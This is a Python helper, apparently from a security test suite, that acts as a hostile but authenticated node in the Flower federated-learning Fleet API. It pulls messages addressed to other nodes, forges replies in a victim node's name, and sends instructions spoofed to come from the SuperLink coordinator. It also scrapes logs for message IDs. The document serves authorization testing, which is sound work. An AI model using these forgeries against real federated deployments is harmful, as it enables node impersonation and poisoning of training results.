"""A registered site that speaks Flower's Fleet API by hand, with its own node key, for others."""

from __future__ import annotations

import re
import time
from pathlib import Path

from cryptography.hazmat.primitives.asymmetric.ec import EllipticCurvePrivateKey
from cryptography.hazmat.primitives.serialization import load_ssh_private_key
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.app.message import remove_content_from_message
from flwr.common.serde import message_to_proto
from flwr.proto.fleet_pb2 import PullMessagesRequest, PushMessagesRequest
from flwr.proto.message_pb2 import PullObjectRequest, PushObjectRequest
from flwr.proto.node_pb2 import Node
from flwr.supercore.inflatable.inflatable_object import (
    get_all_nested_objects,
    get_object_tree,
    no_object_id_recompute,
)
from flwr.supercore.interceptors import RuntimeVersionHttpInterceptor
from flwr.supercore.task_identity import TaskIdentity
from flwr.supernode.fleet_http_client import FleetHttpClient
from flwr.supernode.node_auth_http_interceptor import NodeAuthHttpInterceptor

SUPERLINK = 1
_RECEIVED = re.compile(r"Receiving: query message \(ID: ([0-9a-f]{64})\)")


class HostileSite:
    """Authenticated as one node, it says what it likes about who it is."""

    def __init__(self, address: str, authority: Path, node_key: Path, node_id: int) -> None:
        key = load_ssh_private_key(node_key.read_bytes(), password=None)
        assert isinstance(key, EllipticCurvePrivateKey)
        self.node_id = node_id
        self.client = FleetHttpClient.from_server_address(
            address,
            False,
            authority.read_bytes(),
            interceptors=[
                RuntimeVersionHttpInterceptor(component_name="SuperNode"),
                NodeAuthHttpInterceptor(key, key.public_key()),
            ],
        )

    def pull_as(self, node_id: int) -> object:
        """Ask for the messages of a node."""
        return self.client.PullMessages(PullMessagesRequest(node=Node(node_id=node_id)))

    def pull_object(self, run_id: int, object_id: str) -> bytes:
        """Ask for an object by its hash; empty when the SuperLink has none."""
        request = PullObjectRequest(
            node=Node(node_id=self.node_id), run_id=run_id, object_id=object_id
        )
        return bytes(self.client.PullObject(request).object_content)

    def forge_reply(self, run_id: int, victim: int, message_id: str, content: RecordDict) -> None:
        """A reply in the name of ``victim`` to the message that it was sent."""
        as_if_in(run_id)
        # A reply that outlived its instruction would be dropped.
        asked = Message(RecordDict({"c": ConfigRecord({"a": 1})}), victim, "query", ttl=60.0)
        asked.metadata.__dict__["_message_id"] = message_id
        asked.metadata.__dict__["_src_node_id"] = SUPERLINK
        self._push(run_id, Message(content, reply_to=asked))

    def forge_instruction(self, run_id: int, victim: int, content: RecordDict) -> None:
        """A message to ``victim`` as if it came from the coordinator."""
        as_if_in(run_id)
        message = Message(content, victim, "query", ttl=60.0)
        message.metadata.__dict__["_src_node_id"] = SUPERLINK
        self._push(run_id, message)

    def _push(self, run_id: int, message: Message) -> None:
        message.metadata.__dict__["_message_id"] = message.object_id
        node = Node(node_id=self.node_id)
        with no_object_id_recompute():
            request = PushMessagesRequest(
                node=node,
                messages_list=[message_to_proto(remove_content_from_message(message))],
                message_object_trees=[get_object_tree(message)],
                clientapp_runtime_list=[1.0],
            )
            answer = self.client.PushMessages(request)
            objects = get_all_nested_objects(message)
            for object_id in answer.objects_to_push:
                self.client.PushObject(
                    PushObjectRequest(
                        node=node,
                        run_id=run_id,
                        session_id=answer.session_id,
                        object_id=object_id,
                        object_content=objects[object_id].deflate(),
                    )
                )


def as_if_in(run_id: int) -> None:
    """Flower makes messages inside its own processes only."""
    TaskIdentity._run_id, TaskIdentity._node_id, TaskIdentity._task_id = run_id, SUPERLINK, 1


def received_by(log: Path, within_s: float = 120) -> str:
    """Id of the newest message that a SuperNode received: what an attacker must come to know."""
    deadline = time.monotonic() + within_s
    while True:
        found = _RECEIVED.findall(log.read_text(errors="replace"))
        if found:
            return str(found[-1])
        assert time.monotonic() < deadline
        time.sleep(0.1)
